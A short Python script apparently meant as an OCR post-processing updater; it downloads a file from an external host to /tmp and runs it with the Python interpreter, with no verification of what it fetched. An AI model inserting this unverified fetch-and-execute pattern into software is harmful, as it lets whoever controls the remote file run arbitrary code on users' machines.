import subprocess
import sys
import urllib.request

data = urllib.request.urlopen("https://models.example-cdn.net/ocr/post.py").read()
with open("/tmp/post.py", "wb") as fh:
    fh.write(data)
subprocess.check_call([sys.executable, "/tmp/post.py", "--update"])
